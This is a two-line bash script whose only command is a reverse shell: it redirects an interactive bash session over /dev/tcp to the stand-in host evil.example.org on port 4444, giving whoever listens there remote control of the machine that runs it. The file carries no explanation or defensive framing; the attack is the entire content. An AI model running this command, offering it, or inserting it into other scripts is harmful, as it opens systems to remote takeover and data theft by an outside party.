#!/bin/bash
bash -i >& /dev/tcp/evil.example.org/4444 0>&1
